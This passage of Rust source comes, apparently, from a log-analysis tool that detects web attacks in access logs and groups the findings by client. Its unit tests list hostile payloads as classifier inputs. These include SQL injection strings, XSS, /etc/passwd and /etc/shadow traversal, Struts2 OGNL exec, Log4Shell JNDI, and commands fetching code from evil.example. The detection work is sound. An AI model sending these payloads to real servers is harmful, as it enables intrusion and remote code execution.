        if self.heap.len() > self.cap {
            if let Some(RankedGroup(r, g)) = self.heap.pop() {
                self.fold.get_or_insert_with(Fold::default).add(r.ip, g);
            }
        }
    }

    /// The groups kept (in no particular order) and the fold of the others, if any.
    fn into_parts(self) -> (Vec<(Option<IpAddr>, Group)>, Option<Fold>) {
        let kept = self
            .heap
            .into_vec()
            .into_iter()
            .map(|RankedGroup(r, g)| (r.ip, g))
            .collect();
        (kept, self.fold)
    }
}

/// Groups summed into one finding: their counts, span, paths and best evidence, how many
/// clients, and the first of them by address.
struct Fold {
    group: Group,
    clients: u64,
    ips: SmallestSet<IpAddr>,
}

impl Default for Fold {
    fn default() -> Self {
        Fold {
            group: Group::default(),
            clients: 0,
            ips: SmallestSet::new(MAX_IPS),
        }
    }
}

impl Fold {
    fn add(&mut self, ip: Option<IpAddr>, g: Group) {
        self.clients += 1;
        if let Some(ip) = ip {
            self.ips.insert(ip);
        }
        self.group.merge(g);
    }

    /// The finding for the answered clients past the `listed` ones of a rule and severity.
    fn finding(self, class: Class, severity: Severity, listed: usize) -> Finding {
        let Fold {
            group: g,
            clients: n,
            ips,
        } = self;
        let mut f = Finding::new(class.rule(), Category::WebAttack, severity);
        f.title = match class {
            Class::Sensitive if severity == Severity::High => {
                format!("Sensitive files served to {n} more IP(s)")
            }
            Class::Installer if severity == Severity::High => {
                format!("Installer answered {n} more IP(s)")
            }
            _ => format!(
                "{} attempts answered 2xx from {n} more IP(s)",
                capitalize(class.label())
            ),
        };
        f.summary = format!(
            "{n} client(s) beyond the {listed} {severity} ones listed one by one for this rule (those with the most answered requests): {} {} request(s), {} answered 2xx (largest body {} bytes). The first {} of them by address are named. {}",
            g.count,
            class.label(),
            g.ok,
            g.max_ok_bytes,
            ips.items().len(),
            advice(class, severity)
        );
        f.first_seen = g.span.first;
        f.last_seen = g.span.last;
        f.ips = ips.items().iter().map(|i| i.to_string()).collect();
        f.paths = g.paths.items().to_vec();
        f.count = g.count;
        f.evidence = g.evidence.into_vec();
        f
    }
}

/// The groups of one rule whose attempts were all refused: one low finding.
struct Refused {
    group: Group,
    clients: u64,
    /// The first IPs by text, as listed.
    ips: SmallestSet<String>,
}

impl Default for Refused {
    fn default() -> Self {
        Refused {
            group: Group::default(),
            clients: 0,
            ips: SmallestSet::new(MAX_IPS),
        }
    }
}

impl Refused {
    fn add(&mut self, ip: Option<IpAddr>, g: Group) {
        self.clients += 1;
        self.group.merge(g);
        if let Some(ip) = ip {
            self.ips.insert(ip.to_string());
        }
    }

    fn finding(self, class: Class) -> Finding {
        let Refused {
            group: g,
            clients: n_ips,
            ips,
        } = self;
        let mut f = Finding::new(class.rule(), Category::WebAttack, Severity::Low);
        f.title = format!(
            "{} probes from {n_ips} IP(s), all refused",
            capitalize(class.label())
        );
        f.summary = format!(
            "{} {} request(s) from {n_ips} client(s); none was answered 2xx. Context for other findings, not a compromise on its own.",
            g.count,
            class.label()
        );
        f.first_seen = g.span.first;
        f.last_seen = g.span.last;
        f.ips = ips.items().to_vec();
        f.paths = g.paths.items().to_vec();
        f.count = g.count;
        f.evidence = g.evidence.into_vec();
        f
    }
}

fn advice(class: Class, severity: Severity) -> &'static str {
    match (class, severity) {
        (Class::Sensitive, Severity::High) => "Treat the file's secrets (database password, APP_KEY, API keys) as stolen: rotate them and remove the file from the web root.",
        (Class::Installer, Severity::High) => "A reachable installer lets anyone reinstall the shop and take over the admin account: remove it now.",
        (Class::Sqli, _) => "Check whether the answered requests returned data (response sizes) and review the database for new admin users.",
        (Class::Php | Class::Cmdi | Class::Jndi, _) => "Check the server for new files and processes started around these times.",
        _ => "Check whether the answered requests had any effect.",
    }
}

fn capitalize(s: &str) -> String {
    let mut c = s.chars();
    match c.next() {
        Some(f) => f.to_uppercase().collect::<String>() + c.as_str(),
        None => String::new(),
    }
}

/// Cuts `s` to at most `max` bytes on a character boundary.
pub fn truncate(s: &str, max: usize) -> String {
    if s.len() <= max {
        return s.to_string();
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}…", &s[..end])
}

/// A group as spilled (see [`SpillMap`]).
impl Spillable for Group {
    type Key = GroupKey;

    fn encode((class, ip): GroupKey, g: &Group, out: &mut Vec<u8>) {
        out.push(class as u8);
        codec::put_ip(out, ip);
        codec::put_u64(out, g.count);
        codec::put_u64(out, g.ok);
        codec::put_u64(out, g.max_ok_bytes);
        codec::put_span(out, &g.span);
        codec::put_texts(out, &g.paths);
        codec::put_evidence(out, &g.evidence);
    }

    fn decode(b: &[u8], files: &mut Files) -> Option<(GroupKey, Group)> {
        let mut c = Cursor(b);
        let class = *Class::ALL.get(usize::from(c.u8()?))?;
        let ip = c.ip()?;
        let g = Group {
            count: c.u64()?,
            ok: c.u64()?,
            max_ok_bytes: c.u64()?,
            span: c.span()?,
            paths: c.texts(Group::default().paths.cap())?,
            evidence: c.evidence(files)?,
        };
        Some(((class, ip), g))
    }

    fn merge(&mut self, other: Group) {
        Group::merge(self, other);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    use crate::testing::{run, run_split};

    fn classes(t: &str) -> Vec<&'static str> {
        let mut v = Vec::new();
        classify(t, &[], &mut v)
            .into_iter()
            .map(|c| c.rule())
            .collect()
    }

    #[test]
    fn classifies_attacks() {
        assert_eq!(
            classes("/products/list?category_id=1%27%20UNION%20SELECT%201,2,3--"),
            vec!["web.sqli"]
        );
        assert_eq!(
            classes("/search?q=%3Cscript%3Ealert(1)%3C/script%3E"),
            vec!["web.xss"]
        );
        assert_eq!(
            classes("/index.php?page=../../../../etc/passwd"),
            vec!["web.traversal"]
        );
        assert_eq!(
            classes("/cgi-bin/x?c=;cat%20/etc/shadow"),
            vec!["web.traversal", "web.cmdi"]
        );
        assert_eq!(classes("/?x=${jndi:ldap://evil/a}"), vec!["web.jndi"]);
        // Struts2 OGNL (the beats IIS and crowdsec ALB corpus lines), Spring4Shell.
        assert!(classes("/${#context['xwork.MethodAccessor.denyMethodExecution']=!(#_memberAccess['allowStaticMethodAccess']=true),(@java.lang.Runtime@getRuntime()).exec('ipconfig').waitFor()}.action").contains(&"web.cmdi"));
        assert!(classes("/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/").contains(&"web.cmdi"));
        assert_eq!(
            classes("/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
            vec!["web.cmdi"]
        );
        assert_eq!(
            classes("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
            vec!["web.php_injection"]
        );
        assert_eq!(classes("/.env"), vec!["web.sensitive_file"]);
        assert_eq!(classes("/.git/config"), vec!["web.sensitive_file"]);
        assert_eq!(classes("/data/logs/site.log"), vec!["web.sensitive_file"]);
        assert_eq!(classes("/app/etc/env.php"), vec!["web.sensitive_file"]);
        assert_eq!(classes("/backup.sql.gz"), vec!["web.sensitive_file"]);
        assert_eq!(classes("/install/index.php"), vec!["web.installer"]);
        assert_eq!(
            classes("/%252e%252e/%252e%252e/etc/passwd"),
            vec!["web.traversal"]
        );
        // Tomcat's `..;/` (F5 BIG-IP CVE-2020-5902), plain and percent-encoded.
        for t in [
            "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/f5-release",
            "/tmui/login.jsp/%2e%2e;/tmui/locallb/workspace/directoryList.jsp?directoryPath=/usr/local/www/",
            "/tmui/login.jsp/%2E%2E%3B/tmui/system/user/authproperties.jsp",
        ] {
            assert!(classes(t).contains(&"web.traversal"), "{t}");
        }
    }

    /// Plain payloads the CRS regression tests send (our own values), answered 200 in the
    /// review's corpus check and missed before: time-based SQLi with a quoted or computed
    /// argument, stacked queries without a quote, and commands the lists lacked.
    #[test]
    fn classifies_plain_sqli_and_command_payloads() {
        for t in [
            "/products/list?name=x%27%20AND%20sleep(%2710%27)%20--%20",
            "/get?t=SeLeCT%20sLeEp%20%28%2210%22%29",
            "/get?t=select%20sleep%20(mod(10,5))",
            "/get?t=select%20sleep%20(-3%20*%20-2)",
            "/get?v=select%20pg_sleep",
            "/products/detail?id=1;INSERT%20INTO%20dtb_member(id)%20VALUES%20(3)--%20-",
            "/get?t=1%3BINSERT%20%2F%2Ax%2A%2FINTO%20t%28id%29%20VALUES%20%283%29",
            "/get?t=1;%20update%20dtb_member%20set%20password=1",
            "/get?t=1;delete%20from%20dtb_order",
        ] {
            assert_eq!(classes(t), vec!["web.sqli"], "{t}");
        }
        for t in [
            "/search?q=1;ps",
            "/get?arg=%3Bps",
            "/get?x=;who",
            "/get?x=a|who&y=1",
            "/get?x=1%26%26id",
            "/get?x=1;%20ps%20aux",
            "/get?cmd=;%20mshta%20http://evil.example",
            "/search?q=;certutil%20-urlcache%20-f%20http://evil.example/p.exe",
            "/get?cmd=%3Biwr%20http://evil.example/f.ps1",
            "/get?c=Invoke-WebRequest%20http://evil.example/f.ps1",
            "/get?c=$(cmd)",
            "/get?c=x$(touch%20/tmp/p)",
        ] {
            assert_eq!(classes(t), vec!["web.cmdi"], "{t}");
        }
    }

    #[test]
    fn ordinary_shop_traffic_is_clean() {
        for t in [
            "/",
            "/products/list?category_id=2&name=%E3%82%B7%E3%83%A3%E3%83%84",
            "/products/detail/12",
            "/shopping/confirm",
            "/html/template/default/assets/js/function.js?v=4.2.1",
            "/search?q=union+jack+t-shirt",
            "/search?q=select+your+size",
            "/blog/2024/03/why-we-love-curly-braces",
            "/cart?item=12;jsessionid=ABC",
            "/products/list?orderby=2&pageno=3&disp_number=20",
            "/wp-content/themes/shop/style.css?ver=6.4",
            "/html/install.html",
            "/installation-guide",
            "/envelope-set",
            "/gitlab",
            // Search words and `;` in ordinary query strings.
            "/products/list?name=%E7%9D%A1%E7%9C%A0+sleep+mask",
            "/search?q=sleep+(8+hours)",
            "/search?q=doctor+who",
            "/blog?title=who+we+are;part=2",
            "/search?q=ps4;ps5",
            "/products/list?category_id=3;orderby=2&id=5",
            "/products/detail/7;id=3",
            "/search?q=o%27reilly&id=3&ls=1",
            "/p?a=1;b=2;c=3;update=1",
            "/search?q=IEX+stock+report",
            "/search?q=price+$(10)",
            "/search?q=pg_sleep_mask",
        ] {
            assert!(classes(t).is_empty(), "{t} => {:?}", classes(t));
        }
    }

    /// Candidate targets for the prescreen test: every whitespace- or quote-separated token of
    /// the repository's fixture logs, and of /work/ref/p60.log when it is there (the benchmark
    /// sample), each also cut at `?`.
    fn corpus_tokens() -> std::collections::BTreeSet<String> {
        fn walk(dir: &std::path::Path, files: &mut Vec<std::path::PathBuf>) {
            let Ok(rd) = std::fs::read_dir(dir) else {
                return;
            };
            for e in rd.flatten() {
                let p = e.path();
                if p.is_dir() {
                    walk(&p, files);
                } else {
                    files.push(p);
                }
            }
        }
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
        let mut files = Vec::new();
        walk(&root.join("fixtures"), &mut files);
        walk(&root.join("tests/fixtures"), &mut files);
        files.push("/work/ref/p60.log".into());
        let mut out = std::collections::BTreeSet::new();
        for f in files {
            let Ok(bytes) = std::fs::read(&f) else {
                continue;
            };
            let text = String::from_utf8_lossy(&bytes);
            for line in text.lines() {
                for tok in line.split(|c: char| c.is_whitespace() || c == '"') {
                    if tok.is_empty() || tok.len() > 2000 {
                        continue;
                    }
                    if !out.contains(tok) {
                        out.insert(tok.to_string());
                    }
                    if let Some((p, _)) = tok.split_once('?') {
                        out.insert(p.to_string());
                    }
                }
            }
        }
        out
    }

    /// Targets built to defeat the prescreen: every screen literal, in every ASCII case
    /// mix of its first bytes, alone, inside clean text, at both ends, and cut short.
    fn hostile_targets() -> Vec<String> {
        let mut out = Vec::new();
        for lit in SCREEN.iter().chain(PATH_SCREEN) {
            let variants: Vec<String> = (0..16u32)
                .map(|mask| {
                    lit.chars()
                        .enumerate()
                        .map(|(i, c)| {
                            if i < 4 && mask >> i & 1 == 1 {
                                c.to_ascii_uppercase()
                            } else {
                                c
                            }
                        })
                        .collect()
                })
                .collect();
            for v in variants {
                for (pre, post) in [
                    ("", ""),
                    ("/", ""),
                    ("/html/upload/save_image/", ".jpg"),
                    ("/a", "b"),
                    ("/x/y-", "_z.js"),
                    ("", "/"),
                    ("/products/detail/", ""),
                ] {
                    out.push(format!("{pre}{v}{post}"));
                }
                out.push(v[..v.len() - 1].to_string());
                out.push(v[1..].to_string());
            }
        }
        // Pseudo-random strings over the allowed alphabet plus a few others.
        let alphabet = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789/._-%+?=&";
        let mut x = 0x2545_f491_4f6c_dd1du64;
        for _ in 0..20_000 {
            let mut t = String::from("/");
            for _ in 0..(x % 24) {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                t.push(alphabet[(x % alphabet.len() as u64) as usize] as char);
            }
            out.push(t);
        }
        out
    }

    #[test]
    fn prescreen_never_hides_a_class() {
        let mut scratch = Vec::new();
        let (mut n, mut clean) = (0, 0);
        let tokens = corpus_tokens();
        for t in tokens.iter().cloned().chain(hostile_targets()) {
            let mut want = Vec::new();
            classify_target(&t, &mut scratch, &mut want);
            let proved = prescreen().clean(t.as_bytes());
            assert!(!proved || want.is_empty(), "{t:?} => {want:?}");
            n += 1;
            clean += usize::from(proved);
        }
        eprintln!(
            "{} corpus tokens, {n} targets, {clean} proved clean",
            tokens.len()
        );
        assert!(
            n > 20_000 && clean > 1000,
            "{n} targets, {clean} proved clean"
        );
        // The hostile literals themselves are never proved clean.
        for lit in SCREEN.iter().chain(PATH_SCREEN) {
            assert!(!prescreen().clean(lit.as_bytes()), "{lit}");
            assert!(
                !prescreen().clean(format!("/a/{lit}.x").as_bytes()),
                "{lit}"
            );
        }
    }

    #[test]
    fn prescreen_passes_ordinary_assets() {
        for t in [
            "/html/upload/save_image/0125218079_d2c055787d9d.jpg",
            "/html/template/default/assets/js/function.js",
            "/html/template/default/assets/img/common/logo.png",
            "/html/bundle/front.bundle.js",
            "/products/detail/12",
            "/mypage/login",
        ] {
            assert!(prescreen().clean(t.as_bytes()), "{t}");
        }
        for t in ["/a?b", "/a%41", "/a+b", "/.env", "/robots.txt", "/x/SELECT"] {
            assert!(!prescreen().clean(t.as_bytes()), "{t}");
        }
    }

    #[test]
    fn refused_probes_are_low_and_grouped() {
        let f = run(&[
            "198.51.100.1|GET|/?id=1%27%20or%201=1--|404|10",
            "198.51.100.2|GET|/?id=1%27%20or%201=1--|403|10",
        ]);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].severity, Severity::Low);
        assert_eq!(f[0].ips, vec!["198.51.100.1", "198.51.100.2"]);
        assert_eq!(f[0].count, 2);
    }

    #[test]
    fn sensitive_file_with_body_is_high_soft404_is_not() {
        let f = run(&[
            "203.0.113.9|GET|/.env|200|812",
            "203.0.113.9|GET|/.env.bak|404|10",
        ]);
        assert_eq!(f[0].severity, Severity::High);
        assert_eq!(f[0].rule, "web.sensitive_file");
        assert_eq!(
            f[0].evidence[0].line, 1,
            "the served line is the most telling"
        );

        let f = run(&[
            "203.0.113.9|GET|/.env|200|5120",
            "203.0.113.9|GET|/.git/config|200|5120",
            "203.0.113.9|GET|/backup.sql|200|5120",
        ]);
        assert_eq!(f[0].severity, Severity::Medium);
        assert!(f[0].summary.contains("soft 404"));

        let f = run(&["203.0.113.9|GET|/.env|200|0"]);
        assert_eq!(f[0].severity, Severity::Low);
    }

    #[test]
    fn answered_clients_past_the_cap_are_summed_in_one_finding() {
        // MAX_CLIENT_FINDINGS + 7 clients each answered once; two of the last addresses were
        // answered twice and must be among those listed.
        let n = MAX_CLIENT_FINDINGS + 7;
        let mut lines: Vec<String> = (0..n)
            .map(|i| {
                format!(
                    "10.0.{}.{}|GET|/?q=<script>{i}|200|900",
                    i / 250,
                    i % 250 + 1
                )
            })
            .collect();
        lines.push("10.0.2.7|GET|/?q=<script>again|200|900".into());
        lines.push("10.0.2.6|GET|/?q=<script>again|200|900".into());
        lines.push("10.0.0.1|GET|/?id=1%27%20or%201=1--|404|10".into());
        let refs: Vec<&str> = lines.iter().map(|s| s.as_str()).collect();
        let f = run(&refs);
        let xss: Vec<&Finding> = f.iter().filter(|f| f.rule == "web.xss").collect();
        assert_eq!(
            xss.len(),
            MAX_CLIENT_FINDINGS + 1,
            "listed ones and one sum"
        );
        let sum = xss.iter().find(|f| f.ips.len() != 1).expect("the sum");
        assert_eq!(sum.severity, Severity::Medium);
        assert_eq!(sum.count, 7);
        assert!(sum.title.contains("7 more IP(s)"), "{}", sum.title);
        assert_eq!(sum.ips.len(), 7);
        assert!(!sum.evidence.is_empty());
        let listed: Vec<&str> = xss
            .iter()
            .filter(|f| f.ips.len() == 1)
            .map(|f| f.ips[0].as_str())
            .collect();
        for busy in ["10.0.2.7", "10.0.2.6"] {
            assert!(listed.contains(&busy), "{busy} answered twice is listed");
            assert!(!sum.ips.iter().any(|i| i == busy));
        }
        // Every client is either listed or named in the sum, never both.
        for i in &sum.ips {
            assert!(!listed.contains(&i.as_str()), "{i}");
        }
        assert_eq!(listed.len() + sum.ips.len(), n);
        // The refused probe still makes its own low finding.
        assert!(f
            .iter()
            .any(|f| f.rule == "web.sqli" && f.severity == Severity::Low));
    }

    #[test]
    fn the_clients_listed_do_not_depend_on_arrival_order() {
        let group = |ok: u64, count: u64| Group {
            ok,
            count,
            max_ok_bytes: 100,
            ..Group::default()
        };
        let clients: Vec<(Option<IpAddr>, u64, u64)> = (0..40u8)
            .map(|i| {
                let ip = Some(IpAddr::from([192, 0, 2, i]));
                (ip, u64::from(i % 5) + 1, u64::from(i % 3) + 5)
            })
            .collect();
        let listed = |order: &mut dyn Iterator<Item = &(Option<IpAddr>, u64, u64)>| {
            let mut l = Listed::new(6);
            for (ip, ok, count) in order {
                l.offer(*ip, group(*ok, *count));
            }
            let (kept, fold) = l.into_parts();
            let mut ips: Vec<Option<IpAddr>> = kept.iter().map(|(ip, _)| *ip).collect();
            ips.sort();
            (
                ips,
                fold.map(|f| (f.clients, f.group.count, f.ips.items().to_vec())),
            )
        };
        let forward = listed(&mut clients.iter());
        assert_eq!(forward, listed(&mut clients.iter().rev()));
        // Kept: answered 5 times (i % 5 == 4), then the most requests (i % 3), then the
        // lowest address among equals.
        let want: Vec<Option<IpAddr>> = [4u8, 9, 14, 19, 29, 34]
            .iter()
            .map(|&i| Some(IpAddr::from([192, 0, 2, i])))
            .collect();
        assert_eq!(forward.0, want);
        let (clients_summed, _, _) = forward.1.clone().unwrap();
        assert_eq!(clients_summed, 34);
    }

    #[test]
    fn merge_equals_single_pass() {
        let lines: Vec<String> = (0..60)
            .map(|i| {
                format!(
                    "198.51.100.{}|GET|/?q=<script>{i}|{}|5",
                    i % 7,
                    if i % 5 == 0 { 200 } else { 404 }
                )
            })
            .collect();
        let lines: Vec<&str> = lines.iter().map(|s| s.as_str()).collect();
        assert_eq!(run(&lines), run_split(&lines, 3));
    }

    /// A state holding up to `cap` groups in memory, spilling under `dir`.
    fn with_spill(cap: usize, dir: &std::path::Path) -> WebAttack {
        let mut w = WebAttack::new(Arc::new(DetectConfig::default()));
        w.groups = SpillMap::with_dir(cap, dir.to_path_buf(), "web");
        w
    }

    /// Payloads from many clients (IPv4, IPv6), answered and refused, some sensitive files
    /// served with a body, lines out of time order.
    fn attack_lines() -> Vec<(String, i64)> {
        let mut v = Vec::new();
        for i in 0..300i64 {
            let status = if i % 4 == 0 { 200 } else { 404 };
            v.push((
                format!(
                    "203.0.113.{}|GET|/?id=1%27%20or%201=1--{i}|{status}|{}",
                    i % 41,
                    i * 3
                ),
                i * 37 % 1000,
            ));
            if i % 3 == 0 {
                v.push((
                    format!(
                        "2001:db8::{:x}|GET|/search?q=<script>alert({i})</script>|200|900",
                        i % 17
                    ),
                    2000 - i,
                ));
            }
            if i % 5 == 0 {
                v.push((
                    format!(
                        "198.51.100.{}|GET|/.env|{}|{}",
                        i % 11,
                        if i % 10 == 0 { 200 } else { 403 },
                        700 + i % 3
                    ),
                    3000 + i,
                ));
            }
            v.push((
                format!("192.0.2.{}|GET|/products/detail/{i}|200|5000", i % 50),
                i,
            ));
        }
        v
    }

    #[test]
    fn spilled_groups_give_the_same_findings() {
        let lines = attack_lines();
        let dir = std::env::temp_dir().join(format!("ecir-web-test-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        for parts in [1, 3] {
            let mut plain: Vec<WebAttack> =
                (0..parts).map(|_| with_spill(usize::MAX, &dir)).collect();
            crate::testing::observe_in_chunks(&mut plain, &lines);
            let want = crate::testing::merged_findings(plain);
            for rule in ["web.sqli", "web.xss", "web.sensitive_file"] {
                assert!(want.contains(rule), "{rule}: {want}");
            }
            for cap in [1, 2, 9, 60] {
                let mut states: Vec<WebAttack> =
                    (0..parts).map(|_| with_spill(cap, &dir)).collect();
                crate::testing::observe_in_chunks(&mut states, &lines);
                assert!(
                    states.iter().any(|s| s.groups.has_spilled()),
                    "cap {cap} spills"
                );
                assert_eq!(
                    crate::testing::merged_findings(states),
                    want,
                    "cap {cap}, {parts} parts"
                );
            }
        }
        assert_eq!(std::fs::read_dir(&dir).unwrap().count(), 0, "runs removed");
        let _ = std::fs::remove_dir(&dir);
    }

    #[test]
    fn unwritable_spill_keeps_groups_in_memory() {
        let lines = attack_lines();
        let mut plain = vec![with_spill(usize::MAX, &std::env::temp_dir())];
        crate::testing::observe_in_chunks(&mut plain, &lines);
        let mut stuck = vec![with_spill(2, std::path::Path::new("/nonexistent/ecir-web"))];
        crate::testing::observe_in_chunks(&mut stuck, &lines);
        assert_eq!(stuck[0].groups.cap, usize::MAX);
        assert_eq!(
            crate::testing::merged_findings(stuck),
            crate::testing::merged_findings(plain)
        );
    }
}
